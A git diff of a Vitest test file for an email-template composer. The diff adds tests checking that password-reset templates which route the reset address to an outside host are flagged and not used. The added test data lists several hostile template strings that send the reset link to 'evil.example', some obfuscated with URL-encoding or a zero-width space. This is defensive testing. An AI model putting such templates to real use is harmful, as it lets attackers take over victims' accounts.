@@ -1,6 +1,6 @@
 import { expect, it } from 'vitest';
 import { defineMessage } from '#kit/message/message.ts';
-import { composed } from './compose.server.ts';
+import { composed, strayAddresses } from './compose.server.ts';
 
 const redefinicao = defineMessage({
   id: 'utilitario/redefinicao',
@@ -29,10 +29,34 @@ it('an address of the template is a link, and a link of the template stays one',
     '<a href="https://aurora.exemplo/rh">',
     '<a href="https://aurora.exemplo/a">',
   ]);
-  const inside = composed(
-    redefinicao,
-    { assunto: 'Oi', corpo: '<a href="https://aurora.exemplo/a">{{endereco}}</a>' },
-    { nome: '', endereco },
+});
+
+// The address sets a password: whoever writes a template must not have it sent to a host of theirs.
+it.each([
+  '<p><a href="https://evil.example/?{{endereco}}">Redefinir</a></p>',
+  '<p>https://evil.example/?{{ endereco }}</p>',
+  '<p><a href="https://evil.example/?%7B%7Bendereco%7D%7D">{{endereco}}</a></p>',
+  '<p><a href="https://evil.example/">{{endereco}}</a></p>',
+  '<p>https://evil.example/?{{endereco}}</p>',
+  '<p>https://evil.example/?<strong>{{endereco}}</strong></p>',
+  '<p>www.evil.example/\u200b{{endereco}}</p>',
+  '<p>{{endereco}}@evil.example</p>',
+])('%s is no template, and is not used where it stands', (corpo) => {
+  const template = { assunto: 'Oi', corpo };
+  expect(strayAddresses(redefinicao, template)).toEqual([{ field: 'corpo', name: 'endereco' }]);
+  expect(composed(redefinicao, template, { nome: 'Ana', endereco })).toEqual(
+    composed(redefinicao, undefined, { nome: 'Ana', endereco }),
   );
-  expect(anchors(inside.html)).toHaveLength(1);
+});
+
+it('an address stands apart from other words, and not in the subject', () => {
+  for (const corpo of [
+    '<p>Abra:<br>{{endereco}}</p>',
+    '<p>Abra ({{endereco}}).</p>',
+    '<ul><li><em>{{ endereco }}</em></li></ul>',
+  ])
+    expect(strayAddresses(redefinicao, { assunto: 'Oi', corpo })).toEqual([]);
+  expect(strayAddresses(redefinicao, { assunto: '{{endereco}}', corpo: '<p>{{endereco}}</p>' })).toEqual([
+    { field: 'assunto', name: 'endereco' },
+  ]);
 });
